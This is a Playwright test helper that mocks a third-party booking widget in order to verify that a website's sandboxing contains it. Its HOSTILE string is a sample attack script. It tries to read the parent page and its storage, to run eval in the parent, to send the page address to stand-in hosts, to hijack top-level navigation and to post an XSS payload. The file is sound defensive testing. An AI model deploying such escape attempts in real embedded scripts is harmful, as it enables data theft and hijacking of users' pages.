import type { Page, Request } from 'playwright-core';

/** The address of the test practice's booking service. */
export const BOOKING_SERVICE = 'https://book.visitdesk.example';
export const BOOKING_SCRIPT = `${BOOKING_SERVICE}/widget.js`;

/** A host that the site does not use. */
const ELSEWHERE = 'https://elsewhere.example';

interface Asked {
  service: Request[];
  elsewhere: Request[];
}

/** Simulates the booking service, which serves its script and everything else, and one other host. Returns the requests to each. */
export async function bookingService(page: Page, script: string): Promise<Asked> {
  const asked: Asked = { service: [], elsewhere: [] };
  const empty = { contentType: 'text/html', headers: { 'Access-Control-Allow-Origin': '*' }, body: '<title>Outside</title>' };
  // Routes belong to the context, so that windows opened by the script are covered too.
  await page.context().route(`${BOOKING_SERVICE}/**`, (route) => {
    asked.service.push(route.request());
    const isScript = route.request().url() === BOOKING_SCRIPT;
    return route.fulfill(isScript ? { contentType: 'text/javascript', body: script } : empty);
  });
  await page.context().route(`${ELSEWHERE}/**`, (route) => {
    asked.elsewhere.push(route.request());
    return route.fulfill(empty);
  });
  return asked;
}

/** Opens the booking dialog and asks for the calendar. */
export async function askForCalendar(page: Page): Promise<void> {
  await page.click('.floating__book');
  await page.click('#booking .button--book');
}

/** A booking script that draws one free time. */
export const CALENDAR = `document.body.insertAdjacentHTML('beforeend', '<main><h1>Free times</h1><button id="calendar">Monday 9:00</button></main>');`;

/**
 * A booking script that tries one action of each forbidden kind and posts the result to `/report`: `refused`, or the value
 * that it obtained.
 */
export const HOSTILE = `(async () => {
  const service = '${BOOKING_SERVICE}';
  const elsewhere = '${ELSEWHERE}';
  const refuse = (why) => Promise.reject(new Error(why));
  const within = (promise) => Promise.race([promise, new Promise((_, give) => setTimeout(give, 500, new Error('no answer')))]);
  const add = (tag, properties) => document.body.appendChild(Object.assign(document.createElement(tag), properties));
  /** Waits until the attempted request has had time to be sent. */
  const pause = () => fetch(service + '/pause', { mode: 'no-cors' }).then(() => refuse('nothing came'));
  const tries = {
    'reads the page': () => parent.document.body.textContent,
    'reads the storage of the page': () => parent.localStorage.length + ' entries',
    'reads who refers to it': () => document.referrer || refuse('none'),
    'reads the page by a request': () => within(fetch('/sinus-quiz')).then((answer) => answer.text()),
    'runs script in the page': () => parent.eval('document.title = "changed"'),
    'runs text as script': () => eval('1'),
    'writes a cookie': () => (document.cookie = 'booking=1'),
    'writes storage': () => localStorage.setItem('booking', '1'),
    'writes a database': () => within(new Promise((onsuccess, onerror) => Object.assign(indexedDB.open('booking'), { onsuccess, onerror }))),
    'writes a cache': () => within(caches.open('booking')),
    'starts a service worker': () => within(navigator.serviceWorker.register('/client.js')),
    'opens a window without a press': () => open(service + '/popup') || refuse('blocked'),
    'asks another host': () => within(fetch(elsewhere + '/fetched', { mode: 'no-cors' })),
    'loads a script of another host': () => within(new Promise((onload, onerror) => add('script', { src: elsewhere + '/more.js', onload, onerror }))),
    'sends the page to its host': () => within(fetch(service + '/own', { method: 'POST', mode: 'no-cors', body: location.href + document.referrer })).then(() => refuse('all it has')),
    'leads the page away': () => ((top.location = elsewhere + '/away'), pause()),
    'turns the address of the page': () => ((parent.location.hash = '#turned'), pause()),
    'leads the page away by a link': () => (add('a', { href: elsewhere + '/away', target: '_top' }).click(), pause()),
    'leads the page away by a form': () => (add('form', { action: service + '/away', target: '_top' }).submit(), pause()),
    'leads the page back': () => (history.back(), pause()),
  };
  for (const words of [{}, null, ['drawn'], '__proto__', '<img src=x onerror=alert(1)>', 'drawn']) parent.postMessage(words, '*');
  const outcome = {};
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      outcome[name] = String(await attempt());
    } catch (error) {
      outcome[name] = 'refused';
    }
  }
  await fetch(service + '/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify(outcome) });
})();`;
